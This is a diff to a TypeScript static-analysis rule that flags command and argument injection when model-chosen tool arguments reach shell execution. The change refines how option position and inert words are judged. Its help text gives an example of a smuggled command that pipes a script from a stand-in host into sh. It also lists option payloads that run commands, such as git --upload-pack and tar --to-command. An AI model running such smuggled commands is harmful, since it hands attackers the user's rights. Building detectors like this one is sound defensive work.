@@ -3,7 +3,7 @@
 // option of a program run without a shell.
 import type { TSESTree } from "@typescript-eslint/types";
 import { propertyName, unwrapExpression, walk } from "../analyzer/parse/ast.js";
-import { AFTER_FIRST_WORD, AFTER_OPTIONS_END, OPTION_VALUE, flagsBefore, staysOneShellWord } from "../analyzer/taint/shell-shapes.js";
+import { AFTER_FIRST_WORD, AFTER_OPTIONS_END, NOT_AT_START, OPTION_VALUE, flagsBefore, staysOneShellWord } from "../analyzer/taint/shell-shapes.js";
 import { type Flow, NO_LEADING_DASH, type GuardKind, type SinkHit } from "../analyzer/taint/spec.js";
 import type { Rule, RuleContext } from "./types.js";
 import type { ParsedModule } from "../analyzer/types.js";
@@ -11,7 +11,7 @@ import { fetchedTextRuns } from "./download-and-execute.js";
 import { URL_OPENER_KIND } from "./models/process.js";
 import { NETWORK_REQUEST_KIND } from "./models/network.js";
 import { URL_PATH } from "../analyzer/taint/url-shapes.js";
-import { optionInjectionReach, readsNextAsValue, runsOperandsAsCode } from "./models/commands.js";
+import { hasInertOptions, optionInjectionReach, readsNextAsValue, runsOperandsAsCode } from "./models/commands.js";
 import { argumentVectorRisk, isFixedFirstElement } from "./util/argument-vector.js";
 import { declaredCapability } from "./util/declared-purpose.js";
 import { templateText } from "./util/command-strings.js";
@@ -57,7 +57,7 @@ export const commandInjection: Rule = {
     cwe: [78, 88],
     summary: "A tool argument becomes part of a shell command line or the program to run.",
     description:
-      "A value the model chooses (a tool argument, which a prompt injection can set) reaches `exec`, `execSync`, a `spawn` with `shell: true`, `sh -c`, shelljs or the program position of `execFile`/`spawn` without an allow-list. Whoever writes the value runs commands as the user. Argument arrays without a shell are safer, but an argument that can start with `-` is still read as an option (`--upload-pack=...`): that is reported at medium, and at high for a program one of whose options carries a command (`git --upload-pack=…`, `rg --pre=…`, `tar --to-command=…`, rules/models/commands.ts). In a shell line, a value that cannot leave its word (only letters, digits and `_.,:/@%+=-` by an anchored pattern, a character-class replace or a format; or single quotes escaped as `'\\''` and written inside single quotes) is judged the same way, as an argument; `JSON.stringify` and double quotes are not shell quoting (`$( )` and backticks run), and a word given to `sh -c`, `ssh host …` or `xargs` is still a command. An argument is not an option after `--`, glued to a constant (`./${f}`, `https://…?u=${u}`, `--grep=${p}`), or as the value of an option that takes one (`rg -e PATTERN`, `kubectl -n NS`). When the tool says this is what it is for (its name, description and schema declare the act and the argument is the whole command line), the finding is a capability: medium or low, listed under \"What it can do\", and the permission policy asks before each call; it stays an injection when the value crosses a boundary the code or the tool's text meant to keep. A value a server sent (an authorization server's metadata, a redirect's Location) placed in a shell line, or handed whole to the `open` package as what the system opener starts (it launches apps and `file:` URLs, and on Windows goes through a command line), is reported at medium: whoever answers that request writes part of the command (fetched text run as the whole command is `download-and-execute`); at low when the request goes over https to the package's own service (a constant host, or one only the code's own callers pass, chosen by no setting, argument or other answer). An argument vector built in steps (`args.push(\"--start\", since)`, in a helper or not) keeps what each element was written after: an element right after a constant option is that option's value when the command table says the program takes one, or, for a program the table does not know, when the code writes them as a pair (options that carry code, `-c`, `-e`, excepted); after a launcher's first operand (`npx pkg …`, `node script.js …`, `sudo cmd …`) the arguments belong to the program it names; and `args[0]` of a local array whose first element only constant `unshift`s change is the code's program.",
+      "A value the model chooses (a tool argument, which a prompt injection can set) reaches `exec`, `execSync`, a `spawn` with `shell: true`, `sh -c`, shelljs or the program position of `execFile`/`spawn` without an allow-list. Whoever writes the value runs commands as the user. Argument arrays without a shell are safer, but an argument that can start with `-` is still read as an option (`--upload-pack=...`): that is reported at medium, and at high for a program one of whose options carries a command (`git --upload-pack=…`, `rg --pre=…`, `tar --to-command=…`, rules/models/commands.ts). In a shell line, a value that cannot leave its word (only letters, digits and `_.,:/@%+=-` by an anchored pattern, a character-class replace or a format; or single quotes escaped as `'\\''` and written inside single quotes) is judged the same way, as an argument; `JSON.stringify` and double quotes are not shell quoting (`$( )` and backticks run), and a word given to `sh -c`, `ssh host …` or `xargs` is still a command. An argument is not an option after `--`, glued to a constant (`./${f}`, `https://…?u=${u}`, `--grep=${p}`), or as the value of an option that takes one (`rg -e PATTERN`, `kubectl -n NS`, in a shell line `tmux split-window -c '<dir>'`); an argument-vector element that is a command line for a device or remote shell (`adb shell \"am start -n '<pkg>'\"`) starts with the code's word, and is judged by its quoted word inside. A word of `echo`, whose options only change what it prints, is no argument injection. A value refused when it starts with `-` (also after `trim()`) is no option. When the tool says this is what it is for (its name, description and schema declare the act and the argument is the whole command line), the finding is a capability: medium or low, listed under \"What it can do\", and the permission policy asks before each call; it stays an injection when the value crosses a boundary the code or the tool's text meant to keep. A value a server sent (an authorization server's metadata, a redirect's Location) placed in a shell line, or handed whole to the `open` package as what the system opener starts (it launches apps and `file:` URLs, and on Windows goes through a command line), is reported at medium: whoever answers that request writes part of the command (fetched text run as the whole command is `download-and-execute`); at low when the request goes over https to the package's own service (a constant host, or one only the code's own callers pass, chosen by no setting, argument or other answer). An argument vector built in steps (`args.push(\"--start\", since)`, in a helper or not) keeps what each element was written after: an element right after a constant option is that option's value when the command table says the program takes one, or, for a program the table does not know, when the code writes them as a pair (options that carry code, `-c`, `-e`, excepted); after a launcher's first operand (`npx pkg …`, `node script.js …`, `sudo cmd …`) the arguments belong to the program it names; and `args[0]` of a local array whose first element only constant `unshift`s change is the code's program.",
     help: [
       "**Why it matters.** A shell parses `;`, `&&`, `$(...)` and backticks: `branch = \"main; curl evil.sh | sh\"` runs the attacker's command with the user's rights. A prompt injection in any web page, issue or file the model reads can choose tool arguments.",
       "",
@@ -86,7 +86,7 @@ export const commandInjection: Rule = {
       // A value that stays one word of the line, after its program, is an argument, not shell syntax.
       const breaking = unsafe.filter((f) => !line || line.runsWords || !isOneArgumentWord(shapeOf(ctx, f, hit)));
       if (breaking.length === 0) {
-        const option = unsafe.find((f) => !cannotBeAnOption(shapeOf(ctx, f, hit)));
+        const option = unsafe.find((f) => !cannotBeAnOption(shapeOf(ctx, f, hit), line?.program));
         if (option) reportOption(ctx, { hit, flow: option }, line?.program, line?.subcommand, "in a shell command line, as one word");
         continue;
       }
@@ -111,7 +111,9 @@ export const commandInjection: Rule = {
         continue;
       }
       // In option position only a leading `-` matters: a value whose shape cannot start with one is an operand.
-      const flow = u.hit.flows.find((f) => isUnsafe(ctx, f, "command-argument", OPTION_GUARDS, u.hit, (m) => cannotStartWithDash(m) || isOptionValue(m, risk.program)));
+      // Each flow is judged where its own argument sits (`["blame", r, "--", file]`: r before `--`, file after it).
+      const inOptionPosition = (f: Flow) => f === u.flow || argumentVectorRisk(u.hit, ctx.taint, f).kind === "option";
+      const flow = u.hit.flows.find((f) => isUnsafe(ctx, f, "command-argument", OPTION_GUARDS, u.hit, (m) => cannotStartWithDash(m) || isOptionValue(m, risk.program) || isInertWordOfInnerLine(m)) && inOptionPosition(f));
       if (!flow) continue;
       reportOption(ctx, { hit: u.hit, flow }, risk.program, risk.subcommand, "in its argument array");
     }
@@ -120,6 +122,7 @@ export const commandInjection: Rule = {
 
 /** Argument injection: high for a program with an option that carries its own command (`git --upload-pack=…`), medium otherwise. */
 function reportOption(ctx: RuleContext, u: UntrustedFlow, program: string | undefined, subcommand: string | undefined, where: string): void {
+  if (hasInertOptions(program)) return;
   const runs = optionInjectionReach(program, subcommand);
   if (runs) reportFlow(ctx, u, `${where}, where a value such as \`${runs.runsCode}…\` is read as an option of ${program} that runs a command (argument injection)`, OPTION_FIX, "high", "option");
   else reportFlow(ctx, u, `${where}, where a value starting with \`-\` is read as an option (argument injection)`, OPTION_FIX, "medium", "option");
@@ -140,9 +143,25 @@ function isOneArgumentWord(marks: readonly string[]): boolean {
   return staysOneShellWord(marks) && marks.includes(AFTER_FIRST_WORD);
 }
 
-/** A word that cannot be read as an option: it cannot start with `-`, or follows a standalone `--`. */
-function cannotBeAnOption(marks: readonly string[]): boolean {
-  return marks.includes(NO_LEADING_DASH) || marks.includes(AFTER_OPTIONS_END) || marks.includes(OPTION_VALUE);
+/**
+ * A word that cannot be read as an option: it cannot start with `-`, follows a
+ * standalone `--`, or is the value of the option written before it (`--x=`,
+ * `tmux split-window -c '${dir}'` when the program takes one).
+ */
+function cannotBeAnOption(marks: readonly string[], program: string | undefined): boolean {
+  return marks.includes(NO_LEADING_DASH) || marks.includes(AFTER_OPTIONS_END) || marks.includes(OPTION_VALUE) || isOptionValue(marks, program);
+}
+
+/**
+ * One element of an argument vector that is itself a command line for another
+ * shell (`["shell", `monkey -p '${pkg}'`]`): it starts with the code's
+ * constant, so the launcher cannot read it as an option; inside the line the
+ * piece stays one word and is no option there either. The program of that
+ * inner line is not known here: an option before the piece counts as taking it
+ * as a value when the code wrote them as a pair (readsNextAsValue).
+ */
+function isInertWordOfInnerLine(marks: readonly string[]): boolean {
+  return marks.includes(NOT_AT_START) && staysOneShellWord(marks) && cannotBeAnOption(marks, undefined);
 }
 
 /**
